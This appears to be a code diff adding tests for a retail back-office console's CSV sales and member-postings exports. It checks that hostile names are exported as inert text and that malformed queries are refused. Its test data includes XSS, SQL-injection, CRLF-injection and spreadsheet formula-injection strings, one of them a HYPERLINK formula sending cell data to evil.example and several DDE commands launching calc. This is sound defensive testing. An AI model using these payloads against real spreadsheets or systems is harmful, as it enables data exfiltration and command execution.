@@ -1,7 +1,30 @@
 import { expect, test } from 'vitest';
+import { salesCsv } from '../../headoffice/insight/export-sales.ts';
+import type { SaleClosed } from '../../shared/journal/entry.ts';
+import { day } from '../../shared/units/time.ts';
 import { saleFact } from '../fakes/wire-till.ts';
+import { csvCells, parseCsv } from '../tables/csv-reader.ts';
 import type { TrialOffice } from './office.ts';
 import { card, newMember } from './reference.ts';
+
+const HOSTILE = [
+  '<img src=x onerror=alert(1)>',
+  "Robert'); DROP TABLE entry;--",
+  '=HYPERLINK("http://evil.example?"&A1,"Tea")',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '-2+3',
+  '+1+1',
+  '＝1＋1',
+  "tea;=cmd|' /C calc'!A0",
+  "'=1",
+  ' \u00a0=1',
+  '\u202e00.9 EUR',
+  'a\u2028b\u2029c',
+  'bell \u007f\u0085\u009b end',
+  'x'.repeat(300),
+  '日'.repeat(300),
+  'comma, "quotes"',
+];
 
 export function consoleSuite(trial: () => TrialOffice): void {
   const ours = () => ({ origin: trial().office.url, 'x-joren-console': '1', 'content-type': 'application/json' });
@@ -9,6 +32,8 @@ export function consoleSuite(trial: () => TrialOffice): void {
     fetch(`${trial().office.url}/console/api/${path}`, { method: 'POST', headers, body: JSON.stringify(body) });
   const codeOf = async (response: Response) =>
     `${response.status} ${((await response.json()) as { error?: string }).error}`;
+  const refusalOf = (path: string, headers: Record<string, string>) =>
+    fetch(`${trial().office.url}/console/api/${path}`, { headers }).then(codeOf);
   const token = () => new URL(trial().office.consoleUrl()).hash.slice(1);
 
   const signedIn = async () => {
@@ -22,7 +47,13 @@ export function consoleSuite(trial: () => TrialOffice): void {
       expect(answer.status).toBe(200);
       return (await answer.json()) as T;
     };
-    return { cookie, get };
+    const file = async (path: string) => {
+      const answer = await fetch(`${trial().office.url}/console/api/${path}`, { headers: { cookie } });
+      // As bytes: reading a body as text would take its byte order mark off.
+      const text = new TextDecoder('utf-8', { fatal: true, ignoreBOM: true }).decode(await answer.arrayBuffer());
+      return { status: answer.status, headers: answer.headers, text };
+    };
+    return { cookie, get, file };
   };
 
   test('the printed address opens one session', async () => {
@@ -93,6 +124,127 @@ export function consoleSuite(trial: () => TrialOffice): void {
     );
     expect(entry.bytes).toBe(till.sealed[0]?.bytes);
     expect(entry.entry.lines[0]?.name).toBe('Green tea');
+  });
+
+  const november = 'sales.csv?from=2026-11-01&to=2026-11-30';
+
+  test('hostile names come from a sale into its CSV as text, and reading back gives what was sold', async () => {
+    const { file } = await signedIn();
+    const till = await trial().newTill();
+    for (const name of HOSTILE) till.record(saleFact({ name, price: -250 }));
+    await till.uploadAll();
+    const { status, headers, text } = await file(`stores/${till.store}/${november}`);
+    expect(status).toBe(200);
+    expect(Object.fromEntries(headers)).toMatchObject({
+      'content-type': 'text/csv; charset=utf-8; header=present',
+      'content-disposition': 'attachment; filename="joren-sales-2026-11-01-to-2026-11-30.csv"',
+      'x-content-type-options': 'nosniff',
+      'cache-control': 'no-store',
+    });
+    for (const cell of csvCells(text.slice(1)).flat())
+      expect(/^-?\d+$/.test(cell) || !/^[\s\p{Cf}]*[=+\-@＝＋－＠]/u.test(cell), cell).toBe(true);
+    const records = parseCsv(text);
+    expect(records.map(({ name }) => name)).toEqual(HOSTILE);
+    expect(records[0]).toMatchObject({
+      store: till.store,
+      seq: '1',
+      business_date: '2026-11-22',
+      currency: 'JPY',
+      quantity: '1',
+      list: '-250',
+      discount: '0',
+      paid: '-250',
+      sale_total: '-250',
+    });
+  });
+
+  test('a file has the real sales of its store and days, each once, page by page as they are there', async () => {
+    const till = await trial().newTill();
+    till.record(saleFact(), { businessDate: day('2026-10-31') });
+    till.record(saleFact(), { mode: 'training' });
+    for (let count = 0; count < 249; count++) till.record(saleFact());
+    till.record(saleFact(), { businessDate: day('2026-12-01') });
+    await till.uploadAll();
+    const other = await trial().newTill();
+    other.record(saleFact());
+    await other.uploadAll();
+    const wanted = { store: till.store, from: day('2026-11-01'), to: day('2026-11-30') };
+    const chunks = salesCsv(trial().office.db, wanted);
+    const read: string[] = [];
+    for (let page = 0; page < 2; page++) read.push((await chunks.next()).value ?? '');
+    till.record(saleFact());
+    await till.uploadAll();
+    for await (const chunk of chunks) read.push(chunk);
+    expect(read.map((chunk) => csvCells(chunk).length)).toEqual([1, 100, 100, 50]);
+    expect(parseCsv(read.join('')).map(({ seq }) => Number(seq))).toEqual([
+      ...Array.from({ length: 249 }, (_, index) => index + 3),
+      253,
+    ]);
+  });
+
+  test('a sale of amounts that no currency has does not stop the file', async () => {
+    const { file } = await signedIn();
+    const till = await trial().newTill();
+    const sale = saleFact() as unknown as SaleClosed;
+    const [line] = sale.lines;
+    const discount = { programme: 'x', rev: 1, name: '=1', amount: Number.MAX_SAFE_INTEGER };
+    const odd = (over: object) => till.record({ ...sale, ...over } as unknown as ReturnType<typeof saleFact>);
+    odd({ currency: { code: '=A1', digits: 2 ** 40 } });
+    odd({ currency: { code: 'EUR', digits: -1 } });
+    odd({ currency: { code: 'EUR', digits: 2 }, lines: [{ ...line, discounts: [discount, discount] }, line] });
+    await till.uploadAll();
+    const records = parseCsv((await file(`stores/${till.store}/${november}`)).text);
+    expect(records.map((each) => [each.currency, each.sale_total, each.paid, each.discount, each.offers])).toEqual([
+      ['=A1', '', '', '', ''],
+      ['EUR', '', '', '', ''],
+      ['EUR', '2.50', '2.50', '', '=1, =1'],
+      ['EUR', '', '2.50', '0.00', ''],
+    ]);
+  });
+
+  test('the postings of a member add up to the points', async () => {
+    const { file, get } = await signedIn();
+    const till = await trial().newTill();
+    const id = `posted-${till.till}`;
+    await trial().office.importReference({ members: [newMember(id, { points: 10 })] });
+    const points = [{ points: 4, until: '2027-11-22' }, { points: -2 }].map((moved) => ({ ...moved, name: '=A1' }));
+    for (let visit = 0; visit < 3; visit++) till.record(saleFact({ member: id, points }));
+    await till.uploadAll();
+    const { headers, text } = await file(`members/${id}/postings.csv`);
+    expect(headers.get('content-disposition')).toBe('attachment; filename="joren-member-postings-2026-11-22.csv"');
+    const records = parseCsv(text);
+    expect(records.map((each) => [each.seq, each.kind, each.points, each.valid_until])).toEqual([
+      ['', 'opening', '10', ''],
+      ...['1', '2', '3'].flatMap((seq) => [
+        [seq, 'earn', '4', '2027-11-22'],
+        [seq, 'spend', '-2', ''],
+      ]),
+    ]);
+    expect(records[1]).toMatchObject({ member: id, store: till.store, till: till.till, name: '=A1', wallet: 'points' });
+    const { wallets } = await get<{ wallets: { points: { points: number }[] } }>(`members/${id}`);
+    const balance = wallets.points.reduce((all, lot) => all + lot.points, 0);
+    expect(records.reduce((all, each) => all + Number(each.points), 0)).toBe(balance);
+  });
+
+  test.each([
+    ['', '400 export.notDays'],
+    ['?from=2026-11-01', '400 export.notDays'],
+    ['?from=2026-02-30&to=2026-03-01', '400 export.notDays'],
+    ['?from=2026-11-01&to=2026-11-30%0d%0ax:y', '400 export.notDays'],
+    ['?from=2026-11-01&from=2026-11-02&to=2026-11-30', '400 export.notDays'],
+    ['?from=2026-11-02&to=2026-11-01', '400 export.endsBeforeItBegins'],
+  ])('sales of the period %j are refused', async (query, wanted) => {
+    const { cookie } = await signedIn();
+    const store = await trial().newStore();
+    expect(await refusalOf(`stores/${store}/sales.csv${query}`, { cookie })).toBe(wanted);
+  });
+
+  test('no file is given to a stranger, nor one of what is not there', async () => {
+    const { cookie } = await signedIn();
+    for (const path of [`stores/nowhere/${november}`, 'members/nobody/postings.csv']) {
+      expect(await refusalOf(path, {})).toBe('401 console.signedOut');
+      expect(await refusalOf(path, { cookie })).toBe('404 console.notThere');
+    }
   });
 
   test('no answer of the console holds a secret', async () => {
